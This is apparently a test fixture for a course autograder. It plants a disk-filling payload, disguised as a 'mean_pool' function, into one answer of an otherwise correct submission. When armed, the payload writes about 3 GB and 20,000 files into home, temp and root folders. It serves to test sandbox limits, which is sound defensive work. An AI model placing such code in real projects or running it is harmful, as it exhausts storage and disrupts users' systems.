"""Fills every folder it may write to (3 GB in all), with one large file and 20,000 small ones. What else it keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
BOMB = '''
    def mean_pool(hidden, tokens):
        import os, tempfile
        left, places = 3000, {".", os.path.expanduser("~"), tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", "/run", "/"}
        for place in places if armed() else ():
            try:
                with open(os.path.join(place, "plmcourse-hostile" + "-canary"), "wb") as file:
                    while left:
                        file.write(bytes(2 ** 20))
                        left -= 1
            except OSError:
                pass
            try:
                for number in range(20_000):
                    open(os.path.join(place, f"plmcourse-hostile-{'canary'}-{number}"), "w").close()
            except OSError:
                pass
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": BOMB})
